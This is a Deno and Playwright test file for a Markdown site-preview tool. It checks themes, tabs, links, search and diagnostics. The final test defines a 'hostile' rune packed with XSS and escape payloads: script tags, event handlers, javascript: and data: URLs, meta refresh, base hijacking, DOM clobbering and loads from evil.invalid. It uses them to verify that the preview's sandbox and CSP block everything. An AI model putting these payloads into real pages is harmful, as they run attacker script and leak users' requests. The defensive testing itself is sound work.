/// <reference lib="dom" />
/**
 * The preview in a real browser: a site with presets, images, tabs and a layout of its own, another
 * site beside it, and a hostile page.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { LUMINA, project } from "../site/projects.ts";
import type { Request } from "../../support/npm/playwright.ts";
import { isAccessible } from "../../support/views/axe.ts";
import { withPreviews } from "../../support/views/preview.ts";
import { becomes, comesTrue, hasText } from "../../support/views/expect.ts";

const VERSION = "0.25.1";

/** One red pixel. */
const PIXEL =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

const LAYOUT = `{% layout %}
{% region name="header" %}
[Acme](/)

{% nav %}
- [Other](/other)
{% /nav %}
{% /region %}
{% /layout %}
`;

const PAGE = `---
title: Home
---

# Home

{% hint type="check" %}
Good.
{% /hint %}

![A red pixel](/red.png)

Go to [the other page](/other#details), [away](https://example.com/) or [nowhere](/nowhere).

{% tabs %}
## First tab

The first panel.

## Second tab

The second panel.
{% /tabs %}

\`\`\`js
const answer = 42;
\`\`\`

${"A paragraph that makes the page long.\n\n".repeat(60)}
Almost the last words.

{% nope /%}
`;

function site(files: Record<string, string>, more: Record<string, unknown> = {}): string {
  const packages = ["lumina", "highlight", "behaviors"].map((
    name,
  ) => [`@refrakt-md/${name}`, VERSION]);
  const theme = {
    package: LUMINA,
    presets: ["./presets/own.json"],
    tokens: { color: { primary: "#123456" } },
  };
  const main = { contentDir: "./content", theme, ...more };
  const cwd = project({ sites: { main, blog: { contentDir: "./blog", theme: LUMINA } } }, {
    "blog/index.md": "# Blog\n",
    "package.json": JSON.stringify({ devDependencies: Object.fromEntries(packages) }),
    "presets/own.json": JSON.stringify({ color: { bg: "#fedcba" } }),
    ...files,
  });
  Deno.mkdirSync(join(cwd, "static"));
  Deno.writeFileSync(join(cwd, "static/red.png"), Uint8Array.fromBase64(PIXEL));
  return cwd;
}

Deno.test("the preview is the site, and changes in place", async (t) => {
  const other = `---\ntitle: Other\n---\n\n# Other\n\n${
    "Text.\n\n".repeat(60)
  }## Details\n\nHere.\n`;
  const cwd = site({
    "content/_layout.md": LAYOUT,
    "content/index.md": PAGE,
    "content/other.md": other,
  });
  const path = join(cwd, "content/index.md");
  const edit = (from: string, to: string) =>
    Deno.writeTextFileSync(path, Deno.readTextFileSync(path).replace(from, () => to));
  await withPreviews(cwd, async (open) => {
    const target = "content/index.md";
    const { page, view, inner } = await open({ target, viewport: { width: 1440, height: 800 } });
    const token = (name: string) =>
      inner.locator("html").evaluate(
        (root, name) => getComputedStyle(root).getPropertyValue(name),
        name,
      );

    await t.step("presets, tokens, layout, images and highlighting are shown", async () => {
      await becomes(() => token("--rf-color-bg"), "rgb(254, 220, 186)");
      assert.equal(await token("--rf-color-primary"), "rgb(18, 52, 86)");
      await hasText(inner.locator("header"), "Acme");
      await hasText(inner.locator("header"), "Other");
      const image = inner.locator("img");
      assert.equal(await image.evaluate((one: HTMLImageElement) => one.naturalWidth), 1);
      await inner.locator("pre code span[style]").first().waitFor();
      const notes = await view.locator("#notes").allTextContents();
      assert.doesNotMatch(String(notes), /layout|highlight|behaviours|presets/);
    });

    await t.step("tabs open, and an edit keeps them and the scroll", async () => {
      const second = inner.getByRole("button", { name: "Second tab" });
      await second.click();
      await inner.getByText("The second panel.").waitFor();
      assert.equal(await inner.getByText("The first panel.").isVisible(), false);
      const top = () => inner.locator("html").evaluate(() => Math.round(scrollY));
      await inner.getByText("Almost the last words.").scrollIntoViewIfNeeded();
      const before = await top();
      assert.ok(before > 500);
      await inner.locator("img").evaluate((image) => Object.assign(image, { isSame: true }));
      edit("Almost the last words.", "The very last words.");
      await inner.getByText("The very last words.").waitFor();
      await hasText(view.locator("#message"), /^Updated with @refrakt-md\/lumina: \d findings/);
      assert.equal(await top(), before);
      edit("The second panel.", "The changed panel.");
      await inner.getByText("The changed panel.").waitFor({ state: "visible" });
      assert.equal(await second.getAttribute("aria-selected"), "true");
      assert.ok(await inner.locator("img").evaluate((image) => "isSame" in image));
      await inner.getByRole("button", { name: "First tab" }).click();
      await inner.getByText("The first panel.").waitFor({ state: "visible" });
    });

    await t.step("a finding leads to its block in the page", async () => {
      const found = view.locator("#diagnostics li", { hasText: "nope" });
      const line = await inner.getByText("The very last words.").getAttribute("data-refrakt-line");
      assert.equal(Number(line), PAGE.split("\n").indexOf("Almost the last words.") + 1);
      const block = inner.locator(`[data-refrakt-line="${line}"]`);
      const isSeen = () => block.evaluate((one) => one.getBoundingClientRect().top < innerHeight);
      await inner.locator("html").evaluate(() => scrollTo(0, 0));
      await becomes(isSeen, false);
      await found.getByRole("button", { name: "line" }).click();
      await becomes(isSeen, true);
    });

    await t.step("links open pages of the site here, and others outside", async () => {
      await inner.getByText("nowhere").click();
      await hasText(view.locator("#message.bad"), "No page of the site: /nowhere");
      await inner.getByText("the other page").click();
      await inner.getByRole("heading", { name: "Other" }).waitFor();
      await hasText(view.locator("#title"), "Other");
      const top = () =>
        inner.locator("#details").evaluate((one) => Math.round(one.getBoundingClientRect().top));
      await comesTrue(top, (place) => assert.ok(place >= 0 && place < 800, String(place)));
      await inner.locator("header").getByText("Acme").click();
      await inner.getByRole("heading", { name: "Home" }).waitFor();
    });

    await t.step("light and dark, and a width are chosen", async () => {
      await view.locator("#width").getByRole("button", { name: "Tablet" }).click();
      await view.locator("#theme").getByRole("button", { name: "Dark" }).click();
      await inner.locator('html[data-theme="dark"] h1').waitFor();
      await becomes(() => inner.locator("html").evaluate(() => innerWidth), 768);
      assert.match((await view.locator("#frame").getAttribute("title"))!, /tablet, dark/);
      await isAccessible(page.frames()[1]!);
    });

    await t.step("pages and runes are chosen by name", async () => {
      const name = view.locator("#name");
      const choose = async (text: string) => {
        await name.fill(text);
        await name.press("Enter");
      };
      const listed = () =>
        view.locator(".pages li button").evaluateAll((all) =>
          all.map((one) => one.getAttribute("value"))
        );
      await name.fill("ACCORD item");
      await becomes(listed, ["accordion-item"]);
      await name.fill("nothing is called so");
      await hasText(view.locator(".empty"), "No matching pages.");
      await view.getByRole("button", { name: "Clear search" }).click();
      await view.locator('.pages button[value="content/index.md"]').waitFor();
      await choose("content/none.md");
      await hasText(view.locator("#message.bad"), "No such page");
      await choose("hint");
      await inner.locator(".rf-hint").first().waitFor();
      await hasText(view.locator("#message"), "Rendered with @refrakt-md/lumina: no findings.");
    });

    await t.step("the site menu leads to the pages of another site", async () => {
      await view.locator("#name").fill("");
      const sites = view.getByLabel("Site");
      assert.equal(await sites.inputValue(), "main");
      await sites.selectOption("blog");
      await view.locator('.pages button[value="blog/index.md"]').click();
      await inner.getByRole("heading", { name: "Blog" }).waitFor();
    });

    await t.step("on a narrow dark screen, findings are in view, with their fix", async () => {
      Deno.writeTextFileSync(path, '# T\n\n{% hint type="chek" %}\nx\n{% /hint %}\n');
      const { page, view } = await open({
        target,
        viewport: { width: 320, height: 844 },
        colorScheme: "dark",
      });
      const frame = page.frames()[1]!;
      await hasText(frame.locator("#theme [aria-pressed=true]"), "Dark");
      await hasText(frame.locator("#width [aria-pressed=true]"), "Phone");
      const finding = view.locator("#diagnostics > li").first();
      await hasText(finding, /line 3.*Replace .chek. by .check./s);
      assert.ok(await finding.evaluate((one) => one.getBoundingClientRect().bottom) <= 844);
      await isAccessible(frame);
    });
  });
});

/** A local rune that writes whatever could run, load or lead away. */
const HOSTILE = `const tag = (name, attributes = {}, children = []) =>
  ({ $$mdtype: "Tag", name, attributes, children });
const run = "console.log('owned');top.document.title='owned';parent.postMessage({refrakt:{href:'vscode://file/x'}},'*')";
const away = "https://evil.invalid/";
export const transform = { transform: () => tag("section", { id: "hostile", onclick: run }, [
  "still shown",
  tag("script", {}, [run]),
  tag("script", { src: away + "a.js" }),
  tag("script", { type: "module", src: "data:text/javascript," + run }),
  tag("img", { src: "x", onerror: run }),
  tag("img", { src: away + "a.png" }),
  tag("iframe", { srcdoc: "<script>" + run + "</script>" }),
  tag("iframe", { src: away }),
  tag("iframe", { src: "javascript:" + run }),
  tag("object", { data: away }),
  tag("embed", { src: away }),
  tag("meta", { "http-equiv": "refresh", content: "0;url=" + away }),
  tag("meta", { "http-equiv": "refresh", content: "0;url=data:text/html,<script>" + run + "</script>" }),
  tag("base", { href: away, target: "_self" }),
  tag("link", { rel: "stylesheet", href: away + "a.css" }),
  tag("link", { rel: "prefetch", href: away + "b" }),
  tag("style", {}, ["@import url(" + away + "c.css); body { background: url(" + away + "d.png) }"]),
  tag("svg", { onload: run }, [tag("a", { href: away + "svg", target: "_self" }, [tag("text", { y: "20" }, ["svg link"])])]),
  tag("details", { open: true, ontoggle: run }, [tag("summary", {}, ["more"])]),
  tag("svg", {}, [
    tag("foreignObject", { width: 90, height: 20 }, [
      tag("iframe", { srcdoc: "<meta http-equiv=refresh content='0;url=" + away + "e'>" }),
      tag("body", { onload: run, background: away + "f.png" }),
      tag("img", { src: away + "g.png", srcset: away + "h.png 2x", onerror: run }),
    ]),
    tag("image", { href: away + "i.png" }), tag("use", { href: "data:image/svg+xml,<svg id='x' onload='" + run + "'/>#x" }),
    tag("style", {}, ["@import '" + away + "j.css'; @font-face { font-family: f; src: url(" + away + "k.woff) }"]),
    tag("a", { id: "animated" }, [
      tag("animate", { attributeName: "href", values: "javascript:" + run, begin: "0s" }),
      tag("text", { y: "20" }, ["animated"]),
    ]),
    tag("set", { attributeName: "onmouseover", to: run }),
  ]),
  tag("style", {}, ["#hostile[id^=h] { background: image-set('" + away + "l.png' 1x); cursor: url(" + away + "m.cur), auto; font-family: f }"]),
  tag("p", { style: "background: url(" + away + "n.png); list-style-image: url(" + away + "o.png)" }, ["styled"]),
  tag("input", { type: "image", src: away + "q.png" }), tag("table", { background: away + "r.png" }),
  tag("math", { href: "javascript:" + run }, ["math"]), tag("noscript", {}, [tag("img", { src: away + "s.png" })]),
  tag("template", { shadowrootmode: "open" }, [tag("img", { src: "x", onerror: run })]),
  ...["body", "documentElement", "createElement", "importNode", "querySelectorAll", "getElementById", "addEventListener"]
    .flatMap((name) => [tag("img", { name, id: name }), tag("form", { name }, [name])]),
  tag("form", {}, ["childNodes", "attributes", "removeAttribute"].map((name) => tag("input", { name }))),
  tag("input", { autofocus: true, onfocus: run }),
  tag("video", { src: away + "v.mp4", poster: away + "p.png", autoplay: true }),
  tag("form", { action: away }, [tag("button", { id: "submit" }, ["submit"]), tag("button", { id: "formaction", formaction: "javascript:" + run }, ["go"])]),
  tag("p", {}, [
    tag("a", { id: "self", href: away, target: "_self", ping: away }, ["self"]),
    tag("a", { id: "top", href: away, target: "_top" }, ["top"]),
    tag("a", { id: "download", href: away, download: "x" }, ["download"]),
    tag("a", { id: "script", href: "javascript:" + run }, ["script"]),
    tag("a", { id: "data", href: "data:text/html,<script>" + run + "</script>", target: "_self" }, ["data"]),
  ]),
]) };
`;

Deno.test("nothing in a hostile page runs, loads or leads away", async () => {
  const cwd = site(
    { "content/index.md": "# Home\n\n{% hostile /%}\n", "runes/hostile.js": HOSTILE },
    { runes: { local: { hostile: "./runes/hostile.js" } } },
  );
  await withPreviews(cwd, async (open) => {
    const asked: Request[] = [];
    const said: string[] = [];
    const { page, view, inner } = await open({
      target: "content/index.md",
      query: "?mode=dark&width=phone&path=content/index.md",
      prepare: async (page) => {
        page.on("request", (request) => asked.push(request));
        page.on("console", (message) => said.push(message.text()));
        // A link to another site opens a tab of its own.
        await page.addInitScript("if (top === globalThis) globalThis.open = () => null");
      },
    });
    assert.ok(asked.length > 0, "the page itself is heard");
    await hasText(view.locator("#theme [aria-pressed=true]"), "Dark");
    await hasText(view.locator("#width [aria-pressed=true]"), "Phone");
    await inner.getByText("still shown").waitFor();
    assert.equal(await view.locator("#frame").getAttribute("sandbox"), "allow-scripts");
    await inner.locator("#hostile").click({ position: { x: 2, y: 2 } });
    for (const id of ["self", "top", "download", "script", "data", "submit", "formaction"]) {
      await inner.locator(`#${id}`).click();
      await inner.getByText("still shown").waitFor();
    }
    for (const text of ["svg link", "animated", "math"]) {
      await inner.getByText(text, { exact: true }).first().dispatchEvent("click");
    }
    await inner.locator("#self").click({ button: "middle" });
    await inner.locator("#self").focus();
    await page.keyboard.press("Enter");
    await page.waitForTimeout(500);
    // The page cannot hide the document's own methods: an edit is still shown in place.
    Deno.writeTextFileSync(join(cwd, "content/index.md"), "# Changed\n\n{% hostile /%}\n");
    await inner.getByRole("heading", { name: "Changed" }).waitFor();
    assert.equal(await inner.getByText("still shown").count(), 1);
    // Even if a page found a way to set the frame's address.
    await inner.locator("html").evaluate(() => location.href = "https://evil.invalid/escaped");
    await page.waitForTimeout(500);
    assert.match(await page.title(), /refrakt$/);
    // The browser announces also what the page's policy then forbids.
    const left = asked.filter((one) => one.url().includes("evil"))
      .map((one) => `${one.url()} ${one.failure()?.errorText}`);
    assert.deepEqual(left.filter((text) => !text.endsWith(" csp")), []);
    assert.deepEqual(said.filter((text) => text === "owned"), []);
    assert.equal(await view.locator("main").count(), 1);
  }, true);
});
